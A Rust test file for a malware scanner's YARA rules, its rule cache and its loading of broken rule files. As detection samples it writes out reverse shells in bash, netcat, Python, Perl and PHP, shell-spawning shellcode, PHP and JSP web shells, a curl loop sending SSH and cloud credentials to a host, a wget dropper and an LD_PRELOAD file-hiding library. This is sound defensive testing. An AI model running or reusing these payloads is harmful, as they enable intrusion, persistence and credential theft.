//! Our patterns against what they are for and against everyday files; the cache; bad rules.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use super::{Cache, techniques};
use crate::folder::{Language, Source};
use crate::{Options, Set};

fn ours(place: &str, bytes: &[u8]) -> Vec<String> {
    thread_local! {
        static SET: Set = Set::built_in();
    }
    let found = SET.with(|set| set.scanner().scan(place, bytes)).unwrap();
    found.into_iter().map(|pattern| pattern.rule).collect()
}

fn source(name: &str, text: &str) -> Source {
    let (name, text) = (name.to_owned(), text.to_owned());
    Source { language: Language::Yara, name, text, built_in: false }
}

/// An ELF file (x86-64) of one segment with these flags, without sections, as payload generators
/// make it (System V ABI, figure 4-3 and 5-1).
fn bare_elf(flags: u32, code: &[u8]) -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(16, 0);
    for half in [2_u16, 62] {
        elf.extend(half.to_le_bytes());
    }
    elf.extend(1_u32.to_le_bytes());
    for word in [0x0040_0078_u64, 64, 0] {
        elf.extend(word.to_le_bytes());
    }
    elf.extend(0_u32.to_le_bytes());
    for half in [64_u16, 56, 1, 0, 0, 0] {
        elf.extend(half.to_le_bytes());
    }
    elf.extend(1_u32.to_le_bytes());
    elf.extend(flags.to_le_bytes());
    let size = 0x78 + code.len() as u64;
    for word in [0, 0x0040_0000, 0x0040_0000, size, size, 0x1000] {
        elf.extend(word.to_le_bytes());
    }
    elf.extend_from_slice(code);
    elf
}

#[test]
fn every_pattern_is_in_what_it_is_for() {
    let starts_a_shell = b"\x48\x31\xf6\x56\x48\xbf/bin//sh\x57\x54\x5f\x6a\x3b\x58\x99\x0f\x05";
    let packed = [&bare_elf(5, &[])[..], &[0; 12], b"UPX!", &[0; 8192]].concat();
    let text = b"$Info: This file is packed with the UPX executable packer";
    let changed = [&bare_elf(5, &[])[..], &[0; 64], text].concat();
    let large = bare_elf(7, &[0x90; 9000]);
    let module = [&b"\x7fELF\x02\x01\x01"[..], &[0; 9], &[1, 0, 62, 0], &[0; 44]].concat();
    let module = [&module[..], b"vermagic=6.1\0sys_call_table\0__x64_sys_getdents64\0"].concat();
    let sliver = format!("\x7fELF github.com/bishopfox/sliver/ {}", "sliverpb.X ".repeat(9));
    let dropper = ["mips", "arm7", "x86", "ppc"].map(|kind| {
        format!("wget http://192.0.2.1/bin.{kind}; chmod 777 bin.{kind}; ./bin.{kind}\n")
    });
    let webhook =
        format!("https://discord.com/api/webhooks/{}/{}", "1".repeat(18), "Ab-_".repeat(17));
    let encoded = format!("exec(base64.b64decode('{}'))", "QUJD".repeat(40));
    let cases: &[(&str, &[u8])] = &[
        ("upx_packed_program", &packed),
        ("upx_packed_program_changed", &changed),
        ("program_of_bare_code", &bare_elf(7, starts_a_shell)),
        ("program_with_writable_code_and_no_sections", &large),
        ("reverse_shell_in_shell", b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
        ("reverse_shell_in_shell", b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f"),
        ("reverse_shell_in_python", b"import socket,os,pty\ns=socket.socket(2,1)\ns.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n"),
        ("reverse_shell_in_perl_ruby_or_php", b"use Socket;socket(S,2,1,6);connect(S,$x);open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");"),
        ("reverse_shell_in_perl_ruby_or_php", b"<?php $s=fsockopen(\"192.0.2.1\",1);exec(\"/bin/sh -i <&3 >&3\");"),
        ("shellcode_starts_a_shell", starts_a_shell),
        ("shellcode_connects", b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05"),
        ("miner_configuration", b"{\"pools\": [{\"algo\": \"rx/0\"}], \"donate-level\": 1, \"randomx\": {}}"),
        ("miner_program", b"stratum+tcp:// mining.subscribe mining.submit"),
        ("web_shell_in_php", b"<?php @eval($_POST['x']); ?>"),
        ("web_shell_in_php", b"<?=`$_GET[0]`?>"),
        ("web_shell_in_jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("script_gathers_and_sends_secrets", b"for f in .ssh/id_rsa .aws/credentials .kube/config .netrc .git-credentials; do curl -F f=@$f http://192.0.2.1; done"),
        ("token_of_a_call_back_service", webhook.as_bytes()),
        ("note_that_asks_for_ransom", b"All your files have been encrypted! To decrypt them send 1 bitcoin. Do not rename files."),
        ("private_key", b"-----BEGIN RSA PRIVATE KEY-----\n"),
        ("script_fetches_programs_for_many_machines", &dropper.concat().into_bytes()),
        ("program_text_is_decoded_and_run", encoded.as_bytes()),
        ("module_hooks_system_calls", &module),
        ("agent_of_sliver", sliver.as_bytes()),
        ("agent_of_meterpreter", b"core_channel_open core_loadlib stdapi_fs_ls stdapi_sys_process_execute"),
    ];
    for (rule, bytes) in cases {
        let found = ours("file", bytes);
        assert!(found.iter().any(|name| name == rule), "{rule}: {found:?}");
    }
    // `library_hides_files` wants a dynamic symbol table: it is tried on a real library below.
    let tried: Vec<_> = cases.iter().map(|case| case.0).chain(["library_hides_files"]).collect();
    for rule in Set::built_in().rules().unwrap().iter().filter(|rule| rule.language == "yara") {
        assert!(tried.contains(&rule.id.as_str()), "nothing tries {}", rule.id);
        assert!(!rule.title.is_empty() && !rule.techniques.is_empty(), "{}", rule.id);
        assert!(!rule.references.is_empty() && !rule.description.is_empty(), "{}", rule.id);
    }
    assert!(ours("memory", b"<?php @eval($_POST['x']); ?>").is_empty(), "is for files");
    assert!(ours("memory", starts_a_shell).contains(&"shellcode_starts_a_shell".to_owned()));
}

#[test]
fn a_library_that_hides_files_is_found() {
    let folder = tempfile::tempdir().unwrap();
    let (c, so) = (folder.path().join("x.c"), folder.path().join("x.so"));
    fs::write(
        &c,
        "#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <string.h>\n\
         void *readdir64(void *d){void*(*next)(void*)=dlsym(RTLD_NEXT,\"readdir64\");void*e;\
         do e=next(d); while(e&&strstr((char*)e+19,\"ld.so.preload\"));return e;}\n\
         void *readdir(void *d){return readdir64(d);}\n\
         void *fopen64(const char*p,const char*m){return 0;}\n",
    )
    .unwrap();
    let compiled = std::process::Command::new("cc")
        .args(["-shared", "-fPIC", "-w", "-o"])
        .args([&so, &c])
        .status();
    if !compiled.is_ok_and(|status| status.success()) {
        use std::io::Write as _;
        let _ = fs::OpenOptions::new()
            .write(true)
            .open("/dev/stderr")
            .and_then(|mut err| writeln!(err, "SKIP no C compiler"));
        return;
    }
    assert!(ours("file", &fs::read(so).unwrap()).contains(&"library_hides_files".to_owned()));
}

/// Files below a folder, the first in the order of the names.
fn files(folder: &str, max: usize) -> Vec<PathBuf> {
    let (mut files, mut folders) = (Vec::new(), vec![PathBuf::from(folder)]);
    while let Some(next) = folders.pop() {
        let mut entries: Vec<PathBuf> =
            fs::read_dir(next).into_iter().flatten().flatten().map(|entry| entry.path()).collect();
        entries.sort();
        for path in entries {
            let Ok(meta) = path.symlink_metadata() else { continue };
            if meta.is_dir() {
                folders.push(path);
            } else if meta.is_file() && meta.len() < 1 << 20 {
                files.push(path);
            }
        }
        if files.len() > max {
            break;
        }
    }
    files.truncate(max);
    files
}

#[test]
fn files_of_the_system_are_nothing_to_our_patterns() {
    let mut scanned = 0;
    for folder in ["/usr/bin", "/usr/sbin", "/usr/lib/python3", "/usr/share/nodejs", "/etc"] {
        for path in files(folder, 150) {
            let Ok(bytes) = fs::read(&path) else { continue };
            scanned += 1;
            let found = ours("file", &bytes);
            let harmless = |name: &String| name == "private_key";
            assert!(found.iter().all(harmless), "{}: {found:?}", path.display());
        }
    }
    assert!(scanned > 300, "only {scanned} files");
}

#[test]
fn compiled_rules_are_kept_in_memory_and_in_a_folder() {
    let folder = tempfile::tempdir().unwrap();
    let sources = [source("a.yar", "rule a { strings: $x = \"abc\" condition: $x }")];
    let first = Cache::in_folder(folder.path().to_owned());
    let compiled = first.get(&sources).unwrap();
    assert!(Arc::ptr_eq(&compiled, &first.get(&sources).unwrap()));
    let kept: Vec<PathBuf> = files(folder.path().to_str().unwrap(), 9);
    assert_eq!(kept.len(), 1);
    let again = Cache::in_folder(folder.path().to_owned()).get(&sources).unwrap();
    assert_eq!(again.about, compiled.about);
    // Damage costs a compilation and nothing else.
    for damage in [&b"x"[..], b"", b"shieldx yara 1\n"] {
        fs::write(&kept[0], damage).unwrap();
        assert_eq!(
            Cache::in_folder(folder.path().to_owned()).get(&sources).unwrap().about.len(),
            1
        );
    }
    let mut whole = fs::read(&kept[0]).unwrap();
    *whole.last_mut().unwrap() ^= 1;
    fs::write(&kept[0], &whole).unwrap();
    assert!(super::cache::read(Path::new(&kept[0])).is_none());
    let nowhere = Cache::in_folder(folder.path().join("absent"));
    assert_eq!(nowhere.get(&sources).unwrap().about.len(), 1);
}

#[test]
fn of_a_folder_what_is_sound_is_taken_and_the_rest_is_named() {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
    write(
        "good.yar",
        "rule a : tag { meta: score = 80 mitre_attack = \"T1105 T9\" strings: $x = \"MARK\" condition: $x and filename == \"\" }\nrule bad { condition: nonsense }",
    );
    write("same.yar", "rule a { condition: place == \"artifact\" }");
    write(
        "pe.yar",
        "import \"pe\"\nrule windows { condition: pe.is_pe }\nrule text { condition: false }",
    );
    write("syntax.yara", "rule { oops");
    write("include.yar", "include \"/etc/passwd\"\n");
    let options =
        Options { built_in: false, folder: Some(folder.path().to_owned()), ..Options::default() };
    let set = Set::load(&options).unwrap();
    let report = set.report();
    assert_eq!((report.files, report.yara_rules), (5, 3), "{report:#?}");
    assert_eq!(report.reasons["module pe"], 1);
    let mut broken: Vec<&str> =
        report.skipped.iter().filter(|s| s.broken).map(|s| s.file.as_str()).collect();
    broken.sort_unstable();
    broken.dedup();
    assert_eq!(broken, ["good.yar", "include.yar", "syntax.yara"]);
    let found = set.scanner().scan("file", b"..MARK").unwrap();
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].level.as_str(), found[0].offset), ("high", 2));
    assert_eq!(found[0].techniques, ["T1105"]);
    assert_eq!(set.scanner().scan("artifact", b"MARK").unwrap().len(), 2);
    assert_eq!(set.scanner().rule_set().rules, 3);
}

#[test]
fn techniques_are_found_in_any_form() {
    assert_eq!(
        techniques("T1059.004, T1105;x T1 T10599 S0633 T1027."),
        ["T1059.004", "T1105", "T1027"]
    );
}

/// A file that matches a hundred rules of little weight hid the one of great weight behind them.
#[test]
fn of_many_matches_the_worst_are_told() {
    let rule = |name: &str, level: &str| {
        format!(
            "rule {name} {{ meta: level = \"{level}\" strings: $a = \"MARK\" condition: $a }}\n"
        )
    };
    let mut text: String = (0..100).map(|n| rule(&format!("low_{n}"), "low")).collect();
    text.push_str(&rule("worst", "critical"));
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("many.yar"), text).unwrap();
    let options = Options { folder: Some(folder.path().to_owned()), ..Options::default() };
    let found = Set::load(&options).unwrap().scanner().scan("file", b"MARK").unwrap();
    assert_eq!(found.len(), super::PATTERNS_MAX);
    assert_eq!(found[0].rule, "worst");
}
